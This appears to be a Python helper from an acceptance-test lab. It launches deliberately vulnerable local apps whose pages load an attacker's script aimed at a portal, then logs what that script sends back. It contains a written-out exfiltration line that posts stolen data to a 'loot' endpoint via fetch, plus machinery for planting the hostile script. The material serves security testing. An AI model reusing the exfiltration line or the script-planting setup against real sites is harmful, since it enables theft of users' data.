"""Applications with faults, and what an attacker's script in their pages sends home."""

from __future__ import annotations

import json
import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from lab.processes import PYTHON

from tests.acceptance.lab_of import Lab

_HERE: Final = Path(__file__).parent
_SCRIPT: Final = (_HERE / "hostile.js").read_text()
SENDING: Final = "rob().then((got) => fetch('loot', {method: 'POST', body: JSON.stringify(got)}));"


@dataclass
class Weak:
    """One of weak.py's.

    :ivar log: what it was asked for; each line is JSON, ``[path, body]``.
    """

    process: subprocess.Popen[Any]
    port: int
    log: Path
    seen: int = field(default=0)

    def forget(self) -> None:
        """Have what came so far count no more."""
        self.seen = len(self.log.read_text().splitlines())

    @property
    def loot(self) -> list[str]:
        """What the script sent to it."""
        return [body for path, body in self._asked() if path.endswith("/loot")]

    @property
    def has_run(self) -> bool:
        """Whether a page that its viewer's browser shows asked for the script."""
        return any(path.endswith(("/evil.js", "/loot")) for path, _ in self._asked())

    def _asked(self) -> list[list[str]]:
        return [json.loads(line) for line in self.log.read_text().splitlines()[self.seen :]]

    def stop(self) -> None:
        self.process.terminate()
        self.process.wait()


def script(url: str) -> str:
    """What an attacker would run, against a portal."""
    return _SCRIPT.replace("PORTAL", json.dumps(url), 1)


def weak(lab: Lab, url: str, login: str, *, port: int = 0, gid: str | None = None) -> Weak:
    """Start one of somebody's, with an attacker's script against the portal at ``url`` in it."""
    number = len(list(lab.folder.glob("weak-*.log")))
    log, file = lab.folder / f"weak-{number}.log", lab.folder / f"weak-{number}.js"
    log.touch()
    log.chmod(0o666)
    file.write_text(script(url) + SENDING)
    argv = [PYTHON, str(lab.copies.of(_HERE / "weak.py")), str(port), login, str(file), str(log)]
    process = lab.accounts.run_as(login, argv, gid=gid, stdout=subprocess.PIPE, text=True)
    return Weak(process, int(process.stdout.readline()), log)
